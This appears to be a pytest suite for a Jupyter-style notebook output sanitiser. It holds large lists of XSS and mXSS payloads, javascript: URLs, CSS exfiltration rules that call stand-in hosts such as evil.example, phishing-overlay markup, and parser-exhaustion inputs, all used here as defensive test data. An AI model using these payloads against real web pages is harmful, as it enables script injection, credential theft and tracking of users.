"""What may stand in the page itself: HTML, TeX and Markdown, for an attacker and for who only wants a table."""

from __future__ import annotations

import re
import time
from html import escape

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from page_html import PNG, Inspector, faults, framed_content, show

from chorus_nb.markup import MAX_HTML_ENTITIES, clean_html, inline_html
from chorus_nb.sanitize import clean_latex, clean_markdown, clean_text
from chorus_nb.stylesheets import clean_sheet

HTML_ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="data:image/png;base64,' + PNG + '" onload="alert(1)">',
    "<img src=https://tracker.example/p.gif>",
    "<img src=//tracker.example/p.gif>",
    "<img src=/api/contents>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/png;base64,PHNjcmlwdD4=">',
    '<img srcset="https://tracker.example/p.png 2x" src="data:image/png;base64,' + PNG + '">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/lab/api/kernels" ping="https://tracker.example">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" target="_self">x</a>',
    "<svg onload=alert(1)>x",
    "<svg><script>alert(1)</script></svg>x",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>x",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>x",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>x",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>x",
    "<iframe src=javascript:alert(1)></iframe>x",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>x',
    "<object data=javascript:alert(1)></object>x",
    "<embed src=//evil.example/x.swf>x",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "<isindex action=javascript:alert(1) type=image>x",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">x',
    "<base href=//evil.example/>x",
    "<link rel=stylesheet href=//evil.example/x.css>x",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>x",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">log in again</div>',
    '<div style="color:red;/**/position:/**/fixed">x</div>',
    '<div style="p\\6fsition:fixed">x</div>',
    '<div style="background:url(//tracker.example/p)">x</div>',
    '<div style="background-color:url(//tracker.example/p)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="border:1px solid;margin:-900px;transform:scale(99)">x</div>',
    "<div style=\"font-family:'x;position:fixed;'\">x</div>",
    '<div class="jp-Dialog lm-Widget dataframe">x</div>',
    '<div class="mathjax_process tex2jax_process">x</div>',
    "<div data-commandlinker-command=terminal:create-new data-commandlinker-args={}>x</div>",
    '<img name=getElementById alt=x><p id="jupyter-config-data">x</p>',
    "<a id=jupyterapp name=defaultView>x</a>",
    "<video><source onerror=alert(1)></video>x",
    "<audio src=x onerror=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>x</body>",
    "<table background=javascript:alert(1)><td>x</td></table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>x",
    "<select><template><script>alert(1)</script></template></select>x",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">x',
    "<!--><img src=x onerror=alert(1)>-->x",
    "<!--[if IE]><script>alert(1)</script><![endif]-->x",
    "<![CDATA[<img src=x onerror=alert(1)>]]>x",
    "<?xml-stylesheet href=javascript:alert(1)?>x",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>x",
    "<plaintext><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<<img src=x onerror=alert(1)>>x",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<map name=x><area href=javascript:alert(1)></map>x",
    "<dialog open>x</dialog>",
    "<p is=x-script slot=x contenteditable accesskey=x tabindex=0 onkeydown=alert(1)>x</p>",
    "<button popovertarget=x>x</button><p popover>x</p>",
    "<button type=submit formaction=javascript:alert(1) form=x name=y value=z>x</button>",
    "<button command=show-modal commandfor=x>x</button>",
    "<input type=image src=x onerror=alert(1)>x",
    "<input type=checkbox name=cookie form=login value=1 autofocus onfocus=alert(1)>x",
    "<input type=checkbox type=image formaction=javascript:alert(1) src=x>x",
    '<input type="checkbox" id="jupyter-config-data"><label for="jupyter-config-data">x</label>',
    '<label for="jp-main-dock-panel" onclick="alert(1)">x</label>',
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></use></svg>x",
    "<svg><use xlink:href=//evil.example/x.svg#x></use></svg>x",
    "<svg><use href=javascript:alert(1)></use></svg>x",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>x",
    "<svg><set attributeName=href to=javascript:alert(1)></set><a><text>x</text></a></svg>",
    "<svg><image href=//tracker.example/p.png></image><feImage href=//tracker.example/p.png></feImage></svg>x",
    "<svg><rect fill=url(//tracker.example/p.svg#x) style=filter:url(//tracker.example/f.svg#x) /></svg>x",
    "<svg><style>*{background:url(//tracker.example/p)}</style><path d=M0/></svg>x",
    "<svg><title><style><img src=x onerror=alert(1)></style></title><path d=M0 /></svg>x",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'></svg>x",
    "<svg><desc><noscript><p title='</noscript><img src=x onerror=alert(1)>'></desc></svg>x",
    "<svg><g><![CDATA[</g></svg><img src=x onerror=alert(1)>]]></g></svg>x",
    "<svg><text>\\href{javascript:alert(1)}{x}</text></svg>",
    '<svg id=jupyterapp><g id=defaultView><path id=x d="M0 0"/></g></svg>x',
    "<svg><foreignObject><form id=x></form></foreignObject><rect/></svg><input form=x formaction=javascript:alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>x",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>x",
    "</div></div><p style='position:fixed;inset:0'>log in again</p>",
    "<table><div></table></div></div><p style='position:fixed;inset:0'>log in again</p>",
    "<p style='background:red,image-set(\"//tracker.example/p\" 1x)'>x</p>",
    "<p style='background:0,url(\"//tracker.example/p\")'>x</p>",
    "<p style='cursor:url(//tracker.example/p),auto'>x</p>",
    "<p style='content:attr(title);--x:url(//tracker.example/p)'>x</p>",
    "<p style='width:1px/*;*/;position:fixed'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x);behavior:url(x.htc)'>x</p>",
    "<style>input[value^=a]{background:url(//tracker.example/a)}</style><input value=abc>x",
    "<style>p{color:red/*}</style><style>*/}body{display:none}</style><p>x</p>",
    "<style>p{background:url(data:image/svg+xml,<svg/onload=alert(1)>)}</style><p>x</p>",
    "<style>@font-face{font-family:x;src:url(//tracker.example/f)}p{font-family:x}</style><p>x</p>",
    "<style>@media all{}body{display:none}</style><p>x</p>",
    "<style>:root{position:fixed;inset:0}html{--x:1;display:none}</style><p>x</p>",
    "<style>body .jp-Cell,html .x{position:fixed}</style><p class=x>x</p>",
    "<style>p{color:red;}}body{display:none}</style><p>x</p>",
    "<div class='-0123456789ab sandbox--0123456789ab'>x</div>",
]


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_html_that_attacks_the_page_is_disarmed(attack: str) -> None:
    for html in (attack, f"<div><p>before</p>{attack}<p>after</p></div>", f"<table><tr><td>{attack}"):
        shown = show(text__html=html, text__plain="<fallback>")
        assert shown["text/plain"] == "<fallback>"
        assert not faults(shown.get("text/html", ""))
        assert "alert(1)</script" not in shown.get("text/html", "")


def test_the_inspector_sees_what_it_is_there_for() -> None:
    """The check above is worth something only if it fails on attacks that were let through."""
    missed = [attack for attack in HTML_ATTACKS if not faults(attack)]
    assert len(missed) < len(HTML_ATTACKS) // 4, missed


@given(st.lists(st.sampled_from(HTML_ATTACKS), min_size=2, max_size=4), st.data())
def test_no_mixture_of_attacks_gets_through(attacks: list[str], data: st.DataObject) -> None:
    cut = [attack[: data.draw(st.integers(0, len(attack)))] for attack in attacks]
    source = "".join(cut)
    assert not faults(clean_html(source) or "")
    assert not faults(show(text__html=source).get("text/html", ""))


TEX_ATTACKS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"\(\url{javascript:alert(1)}\)",
    r"$$\class{jp-Dialog}{x}$$",
    r"\begin{equation}\style{position:fixed;top:0}{x}\end{equation}",
    r"$\cssId{jupyter-config-data}{x}$",
    r"$\require{html}$",
    r"$\unicode[evil]{x41}$",
    r"$\bbox[position:fixed]{x}$",
    r'$\mmlToken{mi}[href="javascript:alert(1)"]{x}$',
    r"$\def\alpha{\href}$",
    r"$\newcommand{\x}{\href}$",
    r"$\let\x\href$",
    r"$\data{commandlinker-command=x}{x}$",
    r"$\includegraphics{//tracker.example/p.png}$",
    r"$\&#104;ref{javascript:alert(1)}{x}$",
    r"$&#92;href{javascript:alert(1)}{x}$",
    "$\\hr\x01ef{javascript:alert(1)}{x}$",
]


@pytest.mark.parametrize("attack", TEX_ATTACKS)
def test_tex_that_attacks_the_page_is_disarmed(attack: str) -> None:
    assert "text/latex" not in show(text__latex=attack, text__plain="x")
    assert "text/markdown" not in show(text__markdown=attack, text__plain="x")
    html = clean_html(f"<p>{attack}</p>") or ""
    # MathJax reads each run of text between elements by itself.
    commands = [name for text in Inspector(html).texts for name in re.findall(r"\\([A-Za-z]+)", text)]
    assert set(commands) <= {"alpha", "x", "begin", "end"} - {"x"}


@pytest.mark.parametrize("joiner", ["<!-- -->", "<blink></blink>", "<wbr>", "<script></script>"])
def test_a_tex_command_is_not_hidden_by_what_the_sanitiser_removes(joiner: str) -> None:
    html = clean_html(rf"<p>$\hr{joiner}ef{{javascript:alert(1)}}{{x}}$</p>") or ""
    assert not any("\\href" in text for text in Inspector(html).texts)


@pytest.mark.parametrize(
    "source",
    [
        r"$\displaystyle \frac{x^{2}}{\sqrt{y}} + \int\limits_{0}^{\infty} e^{- t}\, dt$",
        r"$$\begin{bmatrix}1 & 2\\3 & 4\end{bmatrix}$$",
        r"\begin{align} a &= b \\ \operatorname{atan}{\left(x \right)} &= \mathbb{R} \end{align}",
    ],
)
def test_tex_as_sympy_writes_it_passes_unchanged(source: str) -> None:
    assert show(text__latex=source, text__plain="x") == {"text/latex": source, "text/plain": "x"}
    assert "<span>" not in (clean_html(f"<p>{source}</p>") or "")


def test_refused_tex_and_markdown_show_their_source() -> None:
    assert show(text__latex=r"$\href{x}{y}$", text__plain="<Latex object>") == {"text/plain": r"$\href{x}{y}$"}
    assert show(text__markdown="![x](y)", text__plain="<Markdown object>") == {"text/plain": "![x](y)"}


MARKDOWN_ATTACKS = [
    "<script>alert(1)</script>",
    "a <img src=x onerror=alert(1)> b",
    "<\x00script>alert(1)</script>",
    "<\x1b]0;x\x07script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x] (javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]:\njavascript:alert(1)",
    "[x](data:text/html,x)",
    "[x](/lab/api)",
    "<javascript:alert(1)>",
    "![x](https://tracker.example/p.png)",
    "![x][r]\n\n[r]: https://tracker.example/p.png",
    '[x](https://a.example/$" onmouseover="alert(1)$)',
    'https://a.example/$" onmouseover="alert(1)$',
    '```$" onmouseover="alert(1)$\nx\n```',
    "```mermaid\ngraph TD\n```",
    "~~~ mermaid\ngraph TD\n~~~",
    r"\\(\\href{javascript:alert(1)}{x}\\)",
]


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_that_attacks_the_page_is_refused(attack: str) -> None:
    assert clean_markdown(attack) is None
    assert clean_markdown(f"# Title\n\ntext {attack} text") is None


def test_plain_markdown_passes_unchanged() -> None:
    text = "# Title\n\n*a* **b** `c < d` [link](https://example.org/a) and $\\alpha + x_1$\n"
    text += "\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    assert clean_markdown(text) == text


def test_a_dataframe_looks_as_it_does_in_the_notebook() -> None:
    table = pd.DataFrame({"name": ["a<b", "<script>alert(1)</script>"], "n": [1, 2]})
    shown = show(text__html=table._repr_html_(), text__plain=str(table))["text/html"]
    assert '<table border="1" class="dataframe">' in shown
    assert '<tr style="text-align: right">' in shown
    assert "a&lt;b" in shown
    assert re.search(r":where\(\.sandbox-\w+\) \.dataframe thead th \{text-align: right\}", shown)
    assert "".join(Inspector(shown.partition("</style>")[2]).texts).split() == [
        "name",
        "n",
        "0",
        "a<b",
        "1",
        "1",
        "<script>alert(1)</script>",
        "2",
    ]
    assert not faults(shown)


def test_a_dataframe_with_groups_keeps_its_spans() -> None:
    table = pd.DataFrame({("a", "x"): [1], ("a", "y"): [2]})
    assert 'colspan="2"' in show(text__html=table.to_html())["text/html"]


def test_a_styled_dataframe_keeps_its_style_sheet_under_names_of_its_own() -> None:
    style = pd.DataFrame({"a": [1, 2]}).style.set_uuid("x").highlight_max(color="red").bar(color="#123456")
    shown = show(text__html=style.to_html())["text/html"]
    assert re.search(
        r"#sandbox-T_x_row1_col0 \{background-color: red; width: 10em; background: linear-gradient\(", shown
    )
    assert '<td id="sandbox-T_x_row1_col0" class="data row1 col0">' in shown
    assert not faults(shown)


@pytest.mark.parametrize(
    "sheet",
    [
        "@import url(//evil.example)",
        "p {color: red} body {display: none} @media all {p {color: blue}}",
        "p {background: url(//evil.example/p)}",
        "p {background: image-set('//evil.example/p')}",
        "p {color: red; } </style><script>alert(1)</script>",
        "+ div {color: red}",
        "~ .jp-Cell {color: red}",
        "> p, ~ div {color: red}",
        "p:has(~ div) {color: red}",
        "[data-token^=a] {color: red}",
        "p {color: red",
        "p {color: expression(alert(1))}",
        "p {c\\olor: red}",
        "p {--x: url(//evil.example)}",
        "p {background: 0,url('//evil.example/p')}",
        "p {background: red, -webkit-image-set('//evil.example/p' 1x)}",
        "p {content: attr(title)}",
        "p {content: 'a\\62 c'}",
        "p {content: '<'}",
        "p {content: 'x}",
        "p {animation: x 1s}",
        "@keyframes x {from {color: red}}",
        "@font-face {font-family: x; src: url(//evil.example/f)}",
        "@media (x) {p {color: red}",
        "p {color: red}}",
        "body > p:not(:has(x)) {color: red}",
        "p {cursor: url(data:image/png;base64,iVBORw0KGgo=)}",
        "p {filter: url(data:image/svg+xml;base64,PHN2Zy8+)}",
        "p {--a: var(--b) var(--b)} b {--b: var(--a) var(--a)}",
        "p {" + "".join(f"--a{n}: var(--a{n + 1}) var(--a{n + 1}) 0;" for n in range(30)) + "--a30: 0123456789}",
        "p {--a: ';' " + "var(--b) " * 8 + "; --b: " + "x" * 1000 + "}",
        "p {color: " + "calc(" * 20 + "1" + ")" * 20 + "}",
    ],
)
def test_a_style_sheet_that_may_do_more_goes_into_a_frame(sheet: str) -> None:
    shown = show(text__html=f"<style>{sheet}</style><p class=jp-Cell>x</p>")["text/html"]
    content = framed_content(shown)
    assert content is not None
    assert sheet.split("</style>")[0] in content


@pytest.mark.parametrize(
    ("selector", "clean"),
    [
        ("body", ":where(.S) body"),
        ("*", ":where(.S) *"),
        ("p, .jp-Cell > p", ":where(.S) p, :where(.S) .sandbox-jp-Cell > p"),
        (".dataframe tr:nth-child(2n + 1):hover", ":where(.S) .dataframe tr:nth-child(2n + 1):hover"),
        ("a#x.y ~ b", ":where(.S) a#sandbox-o-x.sandbox-y ~ b"),
        ("a:not(.x, #y):checked + b::before", ":where(.S) a:not(.sandbox-x, #sandbox-o-y):checked + b::before"),
        ("html[data-theme=dark] .x", "html[data-theme=dark] :where(.S) .sandbox-x"),
        ("html[data-secret^=a] .x", None),
        ("html > .x", ":where(.S) html > .sandbox-x"),
        (":root", None),
    ],
)
def test_rules_apply_below_their_own_output_only(selector: str, clean: str | None) -> None:
    expected = clean and f"{clean} {{color: red}}"
    assert clean_sheet(f"{selector} {{ color: red; }}", "S", "o-") == expected


def test_a_rule_of_the_page_s_root_gives_an_output_custom_properties_and_nothing_else() -> None:
    sheet = "html[theme='dark'], body.vscode-dark {--x: red}".replace("'", '"')
    assert clean_sheet(sheet, "S", boxed=True) == (
        'html[theme="dark"] :where(.S), body.vscode-dark :where(.S) {--x: red}'
    )
    assert clean_sheet("body {--x: red; color: red}", "S", boxed=True) == ":where(.S) body {--x: red; color: red}"


def test_rules_under_a_condition_stay_under_it() -> None:
    dark = "@media (prefers-color-scheme: dark)"
    assert clean_sheet(f"{dark} {{ p {{ color: red }} }}", "S") == f"{dark} {{\n:where(.S) p {{color: red}}\n}}"
    assert clean_sheet(f"p {{ color: red; {dark} {{ color: blue }} }}", "S") == (
        f":where(.S) p {{color: red}}\n{dark} {{\n:where(.S) p {{color: blue}}\n}}"
    )


@pytest.mark.timeout(20)
@pytest.mark.parametrize("piece", ["<!--", "<script>", "<link ", "<style", "</script>", "<div>", "<!-- -->"])
def test_html_is_told_apart_in_linear_time(piece: str) -> None:
    show(text__html=piece * 500_000, text__plain="x")


def test_a_link_to_the_web_opens_apart() -> None:
    html = clean_html('<a href="https://example.org/?a=1&amp;b=2">x</a>') or ""
    assert 'href="https://example.org/?a=1&amp;b=2"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer"' in html


def test_an_inline_picture_stays_in_html() -> None:
    assert clean_html(f'<img width="9" src="data:image/png;base64,{PNG}">') == (
        f'<img width="9" src="data:image/png;base64,{PNG}">'
    )


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 10**6,
        "<div " + " ".join(f"a{i}=1" for i in range(10**6)) + ">",
        '<!--<a t="-->' + "<div " + " ".join(f"a{i}" for i in range(10**6)) + '">',
        "<div a" * 10**6,
        '<a x="' * 10**6,
        "<p style='color:" + " " * 10**6 + "('>x",
        "<table>" + "<br>" * 10**6,
        "<div>" * 4000 + "</td>" * 10**6,
        "&aaaaaaaaaaaaaaaaaaaa;" * 10**6,
        "<" * 10**6,
        "<p " + " " * 10**6 + "x",
    ],
    ids=lambda html: html[:12],
)
def test_html_made_to_keep_the_parser_busy_is_given_up_soon(html: str) -> None:
    start = time.process_time()
    clean_html(html)
    assert time.process_time() - start < 15  # minutes to hours where nothing is bounded


@pytest.mark.parametrize(
    "text", ["\x1b]" * 10**6, "\x1b[" + "1" * 10**6, "\x1bP" * 10**6, "[" * 10**6, "](" * 10**5, "`" * 10**6]
)
def test_text_made_to_keep_the_patterns_busy_is_done_soon(text: str) -> None:
    start = time.process_time()
    clean_text(text)
    clean_markdown(text)
    clean_latex(text)
    assert time.process_time() - start < 15


@pytest.mark.parametrize("sign", ["&", "<", ">"])
def test_signs_that_are_made_entities_are_counted_alike(sign: str) -> None:
    """Ten MiB of them were a minute's work, of which nobody has anything."""
    assert inline_html(f"a {sign} b" * 1000) == f"a {escape(sign)} b" * 1000
    assert inline_html(f"a {sign} b" * (MAX_HTML_ENTITIES + 1)) is None
